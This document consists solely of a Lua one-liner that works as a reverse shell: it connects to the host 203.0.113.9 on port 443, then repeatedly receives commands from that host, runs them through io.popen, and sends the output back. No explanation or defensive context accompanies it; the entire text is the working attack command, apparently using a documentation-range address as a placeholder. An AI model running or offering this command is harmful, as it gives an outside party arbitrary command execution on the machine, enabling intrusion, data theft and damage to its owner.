lua -e 'local s=require("socket").tcp(); s:connect("203.0.113.9",443); while true do local r=s:receive(); local f=io.popen(r); s:send(f:read("*a")) end'
